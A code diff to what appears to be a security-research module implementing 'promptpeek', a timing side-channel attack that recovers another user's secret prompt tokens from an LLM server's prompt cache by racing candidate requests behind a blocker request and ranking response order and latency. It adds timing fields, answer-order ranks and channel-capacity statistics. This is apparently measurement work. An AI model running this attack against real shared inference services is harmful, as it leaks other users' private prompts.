@@ -20,6 +20,9 @@ The attacker continues from its own guesses (errors propagate, as they would for
 
 from __future__ import annotations
 
+import http.client
+import json
+import math
 import random
 import threading
 import time
@@ -27,7 +30,6 @@ from collections.abc import Sequence
 from dataclasses import dataclass, field
 
 from ttmem.security import stats
-from ttmem.security.server import post_json
 
 
 @dataclass
@@ -39,6 +41,10 @@ class AttackResult:
     guesses_ttft: list[int] = field(default_factory=list)
     requests: int = 0
     latencies_ns: list[tuple[int, bool]] = field(default_factory=list)  # (latency, candidate was correct)
+    ranks: list[tuple[int, bool]] = field(default_factory=list)  # (place in the round's answer order, correct)
+    # per round: the blocker was answered before every candidate request had been sent, so the server may
+    # have served early candidates without seeing the others (the round's order then says little)
+    blocker_early: list[bool] = field(default_factory=list)
 
     @property
     def correct_order(self) -> int:
@@ -49,15 +55,30 @@ class AttackResult:
         return sum(g == t for g, t in zip(self.guesses_ttft, self.truth, strict=True))
 
 
-def _fire(host: str, port: int, payloads: list[dict], timeout: float) -> list[tuple[int, int, int]]:
-    """Send payloads concurrently; return (status, finish time ns, latency ns) per payload."""
-    results: list[tuple[int, int, int]] = [(0, 0, 0)] * len(payloads)
+def _post_timed(host: str, port: int, payload: dict, timeout: float) -> tuple[int, int, int, int]:
+    """POST /generate on a fresh connection: (status, sent time ns, answered time ns, latency ns)."""
+    conn = http.client.HTTPConnection(host, port, timeout=timeout)
+    try:
+        start = time.perf_counter_ns()
+        body = json.dumps(payload).encode()
+        conn.request("POST", "/generate", body=body, headers={"Content-Type": "application/json"})
+        sent = time.perf_counter_ns()
+        resp = conn.getresponse()
+        resp.read()
+        done = time.perf_counter_ns()
+    finally:
+        conn.close()
+    return resp.status, sent, done, done - start
+
+
+def _fire(host: str, port: int, payloads: list[dict], timeout: float) -> list[tuple[int, int, int, int]]:
+    """Send payloads concurrently; return (status, sent time ns, finish time ns, latency ns) per payload."""
+    results: list[tuple[int, int, int, int]] = [(0, 0, 0, 0)] * len(payloads)
     barrier = threading.Barrier(len(payloads))
 
     def one(i: int) -> None:
         barrier.wait(timeout)
-        status, _, elapsed = post_json(host, port, "/generate", payloads[i], timeout)
-        results[i] = (status, time.perf_counter_ns(), elapsed)
+        results[i] = _post_timed(host, port, payloads[i], timeout)
 
     threads = [threading.Thread(target=one, args=(i,), daemon=True) for i in range(len(payloads))]
     for t in threads:
@@ -83,10 +104,12 @@ def promptpeek(
 ) -> AttackResult:
     """Recover ``len(candidates)`` secret tokens following ``template``; ``truth`` is only used for scoring.
 
-    The blocker must outlast the firing of all candidates and consecutive candidate answers must be further
-    apart than the client's jitter: raise ``blocker_new_tokens`` / ``candidate_new_tokens`` on a loaded machine
-    (the server's ``max_new_tokens`` must allow them). Rounds are not repeated for a vote: the attacker's own
-    requests are cached after the first round and would tie with the victim's prompt.
+    The blocker must outlast the firing of all candidates (``AttackResult.blocker_early`` flags the rounds
+    where it did not, which happens when the server is fast relative to the client) and consecutive candidate
+    answers must be further apart than the client's jitter: raise ``blocker_new_tokens`` / ``settle_s`` /
+    ``candidate_new_tokens`` accordingly (the server's ``max_new_tokens`` must allow them). Rounds are not
+    repeated for a vote: the attacker's own requests are cached after the first round and would tie with the
+    victim's prompt.
     """
     if len(candidates) != len(truth) or not candidates:
         raise ValueError("candidates must have one non-empty list per secret token (same length as truth)")
@@ -106,9 +129,12 @@ def promptpeek(
             "prompt": [rng.randrange(vocab_size) for _ in range(blocker_tokens)],
             "max_new_tokens": blocker_new_tokens,
         }
-        blocker_thread = threading.Thread(
-            target=post_json, args=(host, port, "/generate", blocker, timeout_s), daemon=True
-        )
+        blocker_done: list[int] = []
+
+        def run_blocker(payload: dict = blocker, done: list[int] = blocker_done) -> None:
+            done.append(_post_timed(host, port, payload, timeout_s)[2])
+
+        blocker_thread = threading.Thread(target=run_blocker, daemon=True)
         blocker_thread.start()
         time.sleep(settle_s)
         order = list(cands)
@@ -120,13 +146,16 @@ def promptpeek(
         outcomes = _fire(host, port, payloads, timeout_s)
         blocker_thread.join(timeout_s)
         result.requests += 1 + len(order)
-        if any(status != 200 for status, _, _ in outcomes):
-            raise RuntimeError(f"server refused attack requests: {[s for s, _, _ in outcomes]}")
-        first = min(range(len(order)), key=lambda i: outcomes[i][1])
-        fastest = min(range(len(order)), key=lambda i: outcomes[i][2])
+        if any(o[0] != 200 for o in outcomes) or not blocker_done:
+            raise RuntimeError(f"server refused attack requests: {[o[0] for o in outcomes]}")
+        first = min(range(len(order)), key=lambda i: outcomes[i][2])
+        fastest = min(range(len(order)), key=lambda i: outcomes[i][3])
         result.guesses_order.append(order[first])
         result.guesses_ttft.append(order[fastest])
-        result.latencies_ns += [(outcomes[i][2], order[i] == truth[pos]) for i in range(len(order))]
+        result.latencies_ns += [(outcomes[i][3], order[i] == truth[pos]) for i in range(len(order))]
+        answered = sorted(range(len(order)), key=lambda i: outcomes[i][2])
+        result.ranks += [(place, order[i] == truth[pos]) for place, i in enumerate(answered)]
+        result.blocker_early.append(blocker_done[0] < max(o[1] for o in outcomes))
         recovered.append(order[first])
     return result
 
@@ -145,6 +174,9 @@ class AttackSummary:
     secrets_fully_recovered: float
     capacity_bits_per_request: float
     capacity_null_bits: float
+    blocker_early_fraction: float  # rounds whose blocker was answered before all candidates were sent
+    order_capacity_bits_per_request: float  # channel (candidate correct?) -> place in the answer order
+    order_capacity_null_bits: float
 
 
 def summarize_attacks(results: Sequence[AttackResult], candidates_per_position: float) -> AttackSummary:
@@ -159,6 +191,13 @@ def summarize_attacks(results: Sequence[AttackResult], candidates_per_position: 
         "wrong": [t for t, ok in lat if not ok],
     }
     cap = stats.timing_capacity(samples, permutations=50)
+    ranks = [x for r in results for x in r.ranks]
+    by_truth = {"correct": [p for p, ok in ranks if ok], "wrong": [p for p, ok in ranks if not ok]}
+    order_cap = stats.Capacity(math.nan, math.nan, 0)  # results without recorded answer places
+    if min(len(v) for v in by_truth.values()) >= 2:
+        per_round = max(2, round(len(ranks) / max(1, sum(len(r.guesses_order) for r in results))))
+        # as many bins as places in a round: the places are uniform over all requests, so each gets its own bin
+        order_cap = stats.timing_capacity(by_truth, bins=per_round, permutations=50)
     return AttackSummary(
         tokens,
         k_order / tokens,
@@ -170,4 +209,7 @@ def summarize_attacks(results: Sequence[AttackResult], candidates_per_position: 
         sum(r.correct_order == len(r.truth) for r in results) / len(results),
         cap.bits_per_request,
         cap.null_bits,
+        sum(sum(r.blocker_early) for r in results) / max(1, sum(len(r.blocker_early) for r in results)),
+        order_cap.bits_per_request,
+        order_cap.null_bits,
     )
